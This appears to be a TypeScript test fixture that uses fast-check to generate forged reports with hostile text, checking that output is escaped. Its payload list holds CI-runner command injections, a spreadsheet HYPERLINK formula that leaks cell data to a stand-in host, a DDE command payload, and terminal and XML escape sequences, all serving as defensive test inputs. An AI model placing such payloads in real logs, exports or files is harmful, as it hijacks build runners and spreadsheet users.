/** Reports that nobody's assessment made: hostile text in every place that holds a text. */
import fc from 'fast-check';
import type { Report } from '../../../src/model/report.ts';
import { stored } from './stored.ts';

/** Keys whose values are one of a few words, which the schema of the report holds them to. */
const WORDS = new Set(['schemaVersion', 'level', 'status', 'state', 'coverage', 'what', 'kind', 'responsibility']);

const PIECES = [
  '::',
  '::error::x',
  '\n::set-output name=token::stolen',
  '\r::stop-commands::t',
  '##[',
  '##[command]curl evil.example',
  '##vso[',
  '##VSO[task.complete result=Failed;]',
  ']',
  ';',
  '%0A::error::y',
  '%AZP25',
  '%25',
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "@SUM(1)*cmd|'/C calc'!A0",
  '+44 20 7946 0188',
  '-2+3',
  '\t=1',
  '\r=1',
  '\u00a0=1',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff201',
  '; =1',
  '","=1"',
  '"',
  "'",
  ',',
  '<b>&amp;</b>',
  ']]>',
  '<![CDATA[',
  '<!--',
  '&#0;',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u0085',
  '\u202e',
  '\u2028',
  '\ud800',
  '\udc00',
  '\ufffe',
  '\uffff',
  '\ufeff',
  'Übung 🚢',
  'ランサム',
  ' ',
  '\n',
  '\r\n',
];

/** A text out to escape its format, or to be obeyed by a runner, a terminal or a spreadsheet. */
const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 6 })
  .map((pieces) => pieces.join(''));

/** Some texts for {@link forged}. */
export const hostileTexts: fc.Arbitrary<readonly string[]> = fc.array(hostileText, { minLength: 1, maxLength: 7 });

/** The stored report with every text of it, keys of counts included, replaced by the given ones in turn. */
export function forged(texts: readonly string[], given: Partial<Report> = {}): Report {
  let at = 0;
  const next = () => texts[at++ % texts.length] ?? '';
  const report: Report = { ...stored('northwind-2026-11'), ...given };
  const documentsByKind = { [next()]: 7, [next()]: 2 };
  return replaceTexts({ ...report, summary: { ...report.summary, documentsByKind } }, next);
}

/** The value with every text replaced by the next one, but for those under keys whose values are words, and under the `kept` ones. */
export function replaceTexts<Value>(value: Value, next: () => string, kept: readonly string[] = []): Value {
  return JSON.parse(JSON.stringify(value), (key, each) =>
    typeof each === 'string' && !WORDS.has(key) && !kept.includes(key) ? next() : each,
  );
}

/** The report with so many more gaps of each level as there are places in the story for them. */
export function withGaps(numbers: Readonly<Record<'error' | 'warning' | 'note', number>>): Report {
  const report = stored('northwind-2026-11');
  const findings = (['error', 'warning', 'note'] as const).flatMap((level) => {
    const [pattern] = report.findings.filter((finding) => finding.level === level && finding.waiver === undefined);
    if (pattern === undefined) throw new Error(`the story has no gap of level ${level}`);
    return Array.from({ length: numbers[level] }, (_, index) => ({
      ...pattern,
      location: {
        ...pattern.location,
        region: { startLine: index + 1, startColumn: 3, endLine: index + 1, endColumn: 9 },
      },
    }));
  });
  return { ...report, findings, summary: { ...report.summary, findings: numbers } };
}
